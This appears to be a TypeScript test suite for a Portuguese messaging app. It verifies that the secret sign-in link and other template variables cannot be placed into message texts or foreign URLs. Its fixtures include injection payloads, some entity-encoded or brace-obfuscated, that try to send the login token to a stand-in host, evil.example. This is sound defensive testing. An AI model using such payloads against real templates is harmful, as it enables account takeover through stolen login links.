import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import type { MessageEvent } from '@agremia/resources/message-events.ts'
import { messageEvents } from '@agremia/resources/message-events.ts'
import { jobsDone } from '../testing/wait.ts'
import { succeeded } from '../testing/make.ts'
import { messagesTo } from '../testing/read-messages.ts'
import { testApp } from '../testing/test-app.ts'

const here = await testApp()
const { as, make, sql, visitor } = here
const admin = await as('admin')
const editor = await as('editor')

const events = Object.entries(messageEvents) as [string, MessageEvent][]
const security = ['accountCreated', 'applicationVerification', 'emailChange', 'loginLink']
const texts = async (code: string) =>
  sql('SELECT subject, body, sms_text, enabled, channel FROM message_settings WHERE name = $1', [code])
const store = (code: string, { subject = 'Entrar', body = '<p>Olá.</p>', smsText = 'Olá.' }) =>
  sql(
    `UPDATE message_settings SET subject = $2, body = $3, sms_text = $4, is_default = false WHERE name = $1`,
    [code, subject, body, smsText],
  )

/** Requests a sign-in link, and returns the decrypted message. */
async function signInMessage() {
  const user = await make.user()
  assert.equal((await visitor.post('/auth', { email: user['email'], recover_password: true })).status, 204)
  await jobsDone(here, 'accountLinks')
  const [message] = await messagesTo(here, String(user['email']))
  assert.ok(message)
  return message
}
const codesIn = (text: string) => text.match(/loginporlink\/[\w-]{32}/g) ?? []
const hrefsIn = (html: string) => [...html.matchAll(/href="([^"]*)"/g)].map(([, href]) => href)

/** Attempts to put `{ligacao}` into a foreign URL, or elsewhere in a text. */
const evil = 'https://evil.example/?c='
const tricks = [
  `<p><a href="${evil}{ligacao}">Entrar</a></p>`,
  `<p><a href="${evil}{{ ligacao }}">Entrar</a></p>`,
  `<p><a href="${evil}&#123;ligacao&#125;">Entrar</a></p>`,
  `<p><a href="${evil}&#x7b;&#108;igacao&rcub;">Entrar</a></p>`,
  `<p><a href="&lcub;ligacao&rcub;">Entrar</a></p>`,
  `<p><a href='${evil}{ligacao}' title="{ligacao}">Entrar</a></p>`,
  `<p>{<b></b>ligacao} ${evil}&#123;ligacao&#125;</p>`,
  `<p>{{<i></i>{ligacao}}}</p>`,
  `<p><img src="${evil}{ligacao}">{&#108;igacao}</p>`,
  '<p>{ligacao}</p>',
  '<p>{{{ligacao}}}</p>',
]

describe('messages with a secret link', () => {
  test('are those of accounts and of the confirmation of an email', () => {
    const declared = events.filter(([, { secretLink }]) => secretLink !== undefined).map(([code]) => code)
    assert.deepEqual(declared.toSorted(), security)
  })

  test('editors can read their texts, but not change, reset or restore them', async () => {
    for (const code of security) {
      const before = await texts(code)
      const record = succeeded(await editor.get(`/message_settings/${code}`))
      const change = { subject: 'Outro', body: '<p>Outro</p>' }
      for (const path of [code, record._id])
        for (const answer of [
          await editor.patch(`/message_settings/${path}`, change),
          await editor.patch(`/message_settings/${path}`, { smsText: 'Outro', _version: record._version }),
          await editor.patch(`/message_settings/${path}`, { enabled: false, channel: 'letter' }),
          await editor.put(`/message_settings/${path}`, { ...record, ...change }),
          await editor.post(`/message_settings/${path}/reset`),
        ]) {
          assert.equal(answer.status, 403, code)
          assert.match(answer.body.message, /Não tem permissão/)
        }
      assert.equal((await editor.post('/message_settings', { ...change, name: code })).status, 403)
      assert.equal((await editor.post('/message_settings/validate', { ...record, ...change })).status, 403)
      const [event] = await sql<{ id: string }>(
        `INSERT INTO audit_events (id, resource, record_id, action, changes, rows)
         SELECT gen_random_uuid(), 'messageSettings', id, 'deleted', '[]', jsonb_build_array(jsonb_build_object(
           'table', 'message_settings', 'row', to_jsonb(m))) FROM message_settings m WHERE name = $1 RETURNING id`,
        [code],
      )
      for (const caller of [editor, admin])
        assert.equal((await caller.post(`/audit_events/${event?.id}/restore`)).status, 403)
      assert.deepEqual(await texts(code), before)
    }
    succeeded(await editor.patch('/message_settings/welcome', { subject: 'Olá' }))
    succeeded(await editor.post('/message_settings/welcome/reset'))
    succeeded(await admin.patch('/message_settings/loginLink', { subject: 'Olá' }))
    assert.equal(succeeded(await admin.post('/message_settings/loginLink/reset'))['isDefault'], true)
  })

  test('administrators cannot put the link into a text, in any notation', async () => {
    for (const code of security) {
      const before = await texts(code)
      const refused = [
        ...tricks.map((body) => ({ body })),
        ...['{ligacao}', '{{ ligacao }}', `${evil}{{{ligacao}}}`].flatMap((text) => [
          { subject: text },
          { smsText: text },
        ]),
      ]
      for (const change of refused)
        for (const answer of [
          await admin.patch(`/message_settings/${code}`, change),
          await admin.post(`/message_settings/${code}/preview`, change),
        ]) {
          assert.deepEqual(
            [answer.status, Object.keys(answer.body.errors)],
            [422, Object.keys(change)],
            JSON.stringify(change),
          )
        }
      assert.deepEqual(await texts(code), before)
    }
    const { body } = await admin.patch('/message_settings/loginLink', { body: tricks[9] })
    assert.match(body.errors['body']?.[0] ?? '', /^Retire \{ligacao\}: o programa põe a ligação/)
  })

  test('have the link once, below the text', async () => {
    const shipped = await signInMessage()
    for (const text of [shipped.text, shipped.html ?? '']) assert.match(text, /Entrar: /)
    assert.equal(codesIn(shipped.text).length, 1)
    assert.deepEqual(hrefsIn(shipped.html ?? '').length, 1)
    succeeded(await admin.patch('/message_settings/loginLink', { body: '<p>Sem mais.</p>' }))
    const short = await signInMessage()
    assert.match(short.text, /^Sem mais\.\n\nEntrar: http\S+loginporlink\/[\w-]{32}$/)
    succeeded(await admin.post('/message_settings/loginLink/reset'))
  })

  test('stored texts that contain the link show it only below the text', async () => {
    for (const body of [...tricks, '<p>Abra <a href="{ligacao}">{ligacao}</a> em {validade}.</p>']) {
      await store('loginLink', { body, subject: '{ligacao}', smsText: `${evil}{ligacao}` })
      const { subject, text, html } = await signInMessage()
      assert.deepEqual(codesIn(subject), [], body)
      assert.equal(codesIn(text).length, 1, text)
      assert.match(text.split('\n').at(-1) ?? '', /^Entrar: http/)
      const [code] = codesIn(text)
      const hrefs = hrefsIn(html ?? '').filter((href) => href?.includes(String(code)))
      assert.equal(hrefs.length, 1, html ?? '')
      for (const href of hrefsIn(html ?? '')) assert.doesNotMatch(href ?? '', /evil|[{}]/)
      assert.ok(html?.endsWith(`${code}</a></p>`), html ?? '')
    }
    succeeded(await editor.post('/message_settings/loginLink/preview', {}))
    succeeded(await admin.post('/message_settings/loginLink/reset'))
  })
})

describe('a variable in an address', () => {
  const audience = async () => ({ ids: [(await make.member({ email: 'quem@exemplo.pt' }))._id] })
  const gluedBodies = [
    `<p><a href="${evil}{numero}">ver</a></p>`,
    `<p><a href="${evil}&#123;numero&#125;">ver</a></p>`,
    `<p><a href="${evil}{{ numero }}">ver</a></p>`,
    '<p><a href="mailto:{numero}@evil.example">ver</a></p>',
    '<p><a href="{nome}">ver</a></p>',
    '<p><a href="{{nome}}">ver</a></p>',
    `<p><b><a href="${evil}{numero}"><i>ver</i></a></b></p>`,
    `<p>${evil}{numero}</p>`,
    `<p>${evil}<b>{numero}</b></p>`,
    `<p>evil.example/?c={numero}</p>`,
  ]
  const gluedTexts = [`${evil}{numero}`, 'Veja www.evil.example/{numero}', 'evil.example?c={{ numero }}']

  test('is rejected by field in every kind of message', async () => {
    const members = await audience()
    const payment = { memberIds: members.ids }
    const good = { subject: 'Aviso', body: '<p>Olá.</p>', smsText: 'Olá.' }
    const writes: [string, (change: object) => ReturnType<typeof editor.post>][] = [
      ['an event', (change) => editor.patch('/message_settings/reminder1', change)],
      ['its preview', (change) => editor.post('/message_settings/reminder1/preview', change)],
      [
        'a bulk message',
        (change) => editor.post('/message_batches', { ...good, ...change, audience: members }),
      ],
      [
        'its preview',
        (change) => editor.post('/message_batches/preview', { ...good, ...change, audience: members }),
      ],
      ['a payment message', (change) => editor.post('/payment_message', { ...good, ...change, ...payment })],
      [
        'its preview',
        (change) => editor.post('/payment_message/preview', { ...good, ...change, ...payment }),
      ],
    ]
    const changes = [
      ...gluedBodies.map((body) => ({ body })),
      ...gluedTexts.flatMap((text) => [{ subject: text }, { smsText: text }]),
    ]
    for (const [what, write] of writes)
      for (const change of changes) {
        const { status, body } = await write(change)
        const label = `${what} ${JSON.stringify(change)}`
        assert.deepEqual([status, Object.keys(body.errors ?? {})], [422, Object.keys(change)], label)
        assert.match(Object.values(body.errors)[0]?.[0] ?? '', /endereço.*\{n/, label)
      }
    for (const table of ['message_batches', 'payment_message', 'messages'])
      assert.deepEqual(await sql(`SELECT FROM ${table} WHERE subject LIKE '%evil%'`), [])
    assert.doesNotMatch(JSON.stringify(await texts('reminder1')), /evil/)
  })

  test('is allowed as the whole URL of a link, for variables that are links', async () => {
    const body = '<p>Pague <a href="{pagamentoUrl}">aqui</a> ({pagamentoUrl}), n.º/ref. {numero}/{ano}.</p>'
    const saved = succeeded(await editor.patch('/message_settings/reminder1', { body }))
    assert.equal(saved['body'], body)
    const input = { subject: 'x', body: '<p><a href="{{ ligacao }}">Pagar</a></p>' }
    const payment = succeeded(await editor.post('/payment_message', input))
    assert.equal(payment['body'], '<p><a href="{pagamentoUrl}">Pagar</a></p>')
    const bulk = await editor.post('/message_batches', { ...input, audience: await audience() })
    assert.deepEqual([bulk.status, Object.keys(bulk.body.errors)], [422, ['body']])
    succeeded(await editor.post('/message_settings/reminder1/reset'))
  })

  test('in a stored text loses the URL and keeps the words', async () => {
    await store('welcome', {
      body: `<p><a href="${evil}{numero}">ver</a> <a href="{nome}">nome</a> <a href="${evil}1">fim</a></p>`,
    })
    const { body } = await editor.post('/message_settings/welcome/preview', {})
    const html = String((body.data as Record<string, unknown>)['html'])
    assert.match(html, /<p><a>ver<\/a> <a>nome<\/a> <a href="https:\/\/evil\.example\/\?c=1">fim<\/a><\/p>/)
    succeeded(await editor.post('/message_settings/welcome/reset'))
  })

  test('texts are validated in their stored form, with entities and double braces decoded', async () => {
    const unknown = ['<p>&#123;segredo&#125;</p>', '<p>{&#115;egredo}</p>', '<p>{<b></b>{segredo}}</p>']
    for (const body of unknown)
      for (const path of ['/message_settings/welcome/preview', '/payment_message'])
        assert.deepEqual(
          Object.keys((await editor.post(path, { subject: 'x', body })).body.errors ?? {}),
          ['body'],
          `${path} ${body}`,
        )
    const saved = succeeded(
      await editor.patch('/message_settings/welcome', { body: '<p>&#123;nome&#125;</p>' }),
    )
    assert.equal(saved['body'], '<p>{nome}</p>')
    succeeded(await editor.post('/message_settings/welcome/reset'))
  })
})
